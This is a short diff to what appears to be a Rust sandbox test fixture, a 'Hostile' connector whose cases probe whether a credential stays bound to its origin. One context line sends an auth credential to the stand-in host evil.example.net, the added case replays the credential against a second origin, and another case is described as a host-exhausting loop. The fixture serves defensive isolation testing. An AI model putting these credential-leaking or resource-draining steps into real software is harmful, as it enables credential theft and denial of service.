@@ -130,6 +130,13 @@ impl Connector for Hostile {
                 // The credential is bound to the target's origin.
                 http::get("http://evil.example.net/").auth(auth).send()?;
             }
+            "credential-second-origin" => {
+                // The same server under a second origin, granted to the app
+                // but not to the credential.
+                let other = target.replace("127.0.0.1", "localhost");
+                http::get(format!("{other}/echo-auth")).auth(auth).send()?.error_for_status("echo")?;
+                return Err(permanent("the credential reached a second origin"));
+            }
             "busy-host" => {
                 // Each call costs the host a 16 MiB copy and the guest almost
                 // no fuel; the loop never ends on its own.
